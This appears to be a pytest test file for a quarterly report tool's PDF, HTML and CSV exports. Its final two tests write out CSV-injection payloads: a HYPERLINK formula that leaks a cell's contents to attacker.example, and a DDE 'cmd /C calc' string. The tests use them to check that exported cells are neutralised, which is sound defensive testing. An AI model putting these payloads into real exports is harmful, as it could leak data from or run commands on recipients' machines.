"""The quarterly 'how are we doing' report: HTML, PDF and the scorecard as CSV (seed 004)."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import psycopg
import pytest
from pypdf import PdfReader
from typer.testing import CliRunner

from domain.application import Assured
from projections.quarters import Quarter
from api.cli.report import app as report_cli
from projections.reports import quarterly
from projections.runner import Runner
from tests.projections.quarter_fixture import record_fixture_year

Q3 = Quarter(2026, 3)


@pytest.fixture
def report(app: Assured, database_url: str) -> quarterly.QuarterlyReport:
    record_fixture_year(app)
    runner = Runner(app)
    for name in quarterly.READ_MODELS:
        runner.catch_up(runner.projection(name))
    with psycopg.connect(database_url, autocommit=True) as conn:
        return quarterly.build(conn, Q3, app.mapper.cipher, meeting=date(2026, 10, 20))


def pdf_text(data: bytes) -> str:
    """The PDF's words, with line breaks and runs of spaces as single spaces."""
    pages = PdfReader(io.BytesIO(data)).pages
    return " ".join(" ".join(page.extract_text() for page in pages).split())


def test_the_pdf_renders_the_scorecard_register_actions_and_evidence(
    report: quarterly.QuarterlyReport,
) -> None:
    text = pdf_text(quarterly.as_pdf(report)).casefold()  # headings are set in capitals
    for words in ("How are we doing?", "Jul–Sep 2026", "Scorecard", "How much did we do?",
                  "How well did we do it?", "Is anyone better off?",
                  "Panel notifications within 5 working days", "33.3%", "60 per 100",
                  "Two reports were sampled late", "Register of reviews and audits", "RV0",
                  "Chair on leave", "Key learning", "Joint threshold training",
                  "Actions due by 31 December 2026", "Record oversight in every file",
                  "Good Outcome Reviews", "Evidence considered", "10 October 2026",
                  "How each measure is counted"):
        assert words.casefold() in text, words


def _figures(node: Any) -> list[str]:
    """The alternative text of every Figure in a tagged PDF's structure tree."""
    node = node.get_object()
    if isinstance(node, list):
        return [alt for kid in node for alt in _figures(kid)]
    if not hasattr(node, "get"):
        return []
    found = [str(node["/Alt"])] if node.get("/S") == "/Figure" and "/Alt" in node else []
    return found + (_figures(node["/K"]) if "/K" in node else [])


def test_the_pdf_is_tagged_with_its_language_and_each_charts_words(
    report: quarterly.QuarterlyReport,
) -> None:
    root = PdfReader(io.BytesIO(quarterly.as_pdf(report))).trailer["/Root"]
    assert root["/Lang"] == "en" and "/StructTreeRoot" in root
    figures = _figures(root["/StructTreeRoot"])
    assert len(figures) == len(report.card.measures) == 14
    assert all(alt.startswith("Bar chart of ") and "Thresholds: green" in alt
               for alt in figures), figures


def test_the_html_embeds_one_trend_chart_per_measure_as_inline_svg(
    report: quarterly.QuarterlyReport,
) -> None:
    html = quarterly.as_html(report)
    assert html.count("<svg") == len(report.card.measures) == 14
    assert "data:image" not in html and "<?xml" not in html


def test_the_scorecard_exports_as_csv_with_thresholds_trend_and_narrative(
    report: quarterly.QuarterlyReport,
) -> None:
    rows = list(csv.DictReader(io.StringIO(quarterly.scorecard_csv(report))))
    assert [r["measure"] for r in rows][:2] == ["support_sessions_held", "support_on_time"]
    support = rows[1]
    assert (support["numerator"], support["denominator"], support["value"], support["light"],
            support["green"], support["amber"]) == ("1", "2", "50.0", "red", "95", "85")
    assert support["narrative"] == "Two reports were sampled late; booked for October."
    assert support["trend"].split(";")[-1] == "2026Q3=50.0"


@pytest.fixture
def settings_env(database_url: str, cipher_key: str, monkeypatch: pytest.MonkeyPatch,
                 tmp_path: Path) -> dict[str, str]:
    env = {"ASSURED_DATABASE_URL": database_url, "ASSURED_ENCRYPTION_KEY": cipher_key,
           "ASSURED_DATA_DIR": str(tmp_path)}
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    return env


@pytest.mark.parametrize("fmt", ["pdf", "csv", "html"])
def test_assured_report_quarterly_writes_the_chosen_format(
    fmt: str, settings_env: Any, app: Assured, tmp_path: Path
) -> None:
    record_fixture_year(app)
    out = tmp_path / f"report.{fmt}"
    result = CliRunner().invoke(report_cli, ["quarterly", "--quarter", "2026Q3", "--format", fmt,
                                             "--out", str(out)])
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    if fmt == "pdf":
        assert "Audit returns on time" in pdf_text(data)
    elif fmt == "csv":
        assert data.decode().startswith("quarter,question,measure")
    else:
        assert b"<svg" in data


def test_a_lead_writes_a_narrative_from_the_command_line(
    settings_env: Any, app: Assured, database_url: str
) -> None:
    cli = CliRunner()
    written = cli.invoke(report_cli, ["narrative", "--quarter", "2026q3", "--measure",
                                      "drift_cases", "--by", "chair-se", "Two cases drifted."])
    assert written.exit_code == 0, written.output
    refused = cli.invoke(report_cli, ["narrative", "--quarter", "2026Q3", "--measure", "mood",
                                      "--by", "chair-se", "Fine."])
    assert refused.exit_code == 1 and "measure of the scorecard" in refused.output
    wrong = cli.invoke(report_cli, ["quarterly", "--quarter", "Q3", "--out", "x.pdf"])
    assert wrong.exit_code == 2 and "2026Q3" in wrong.output


def test_a_narrative_that_starts_with_a_formula_comes_out_of_the_csv_as_text(
    settings_env: Any, app: Assured, tmp_path: Path
) -> None:
    """OWASP's CSV injection: a cell starting with =, +, -, @, a tab or a carriage return is
    run by a spreadsheet. Typed through the lead's own door, it leaves the CSV as text."""
    record_fixture_year(app)
    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
    cli = CliRunner()
    written = cli.invoke(report_cli, ["narrative", "--quarter", "2026Q3", "--measure",
                                      "drift_cases", "--by", "chair-se", formula])
    assert written.exit_code == 0, written.output
    out = tmp_path / "scorecard.csv"
    made = cli.invoke(report_cli, ["quarterly", "--quarter", "2026Q3", "--format", "csv",
                                   "--out", str(out)])
    assert made.exit_code == 0, made.output
    rows = {r["measure"]: r for r in csv.DictReader(io.StringIO(out.read_text()))}
    assert rows["drift_cases"]["narrative"] == "'" + formula
    for row in rows.values():  # and no other cell would run either
        for cell in row.values():
            assert not cell.startswith(quarterly.FORMULA_STARTS), cell
    assert rows["drift_cases"]["numerator"].lstrip("-").isdigit()  # numbers stay numbers


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert quarterly.as_text_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
    assert quarterly.as_text_cell(-3) == -3 and quarterly.as_text_cell("Two cases") == "Two cases"
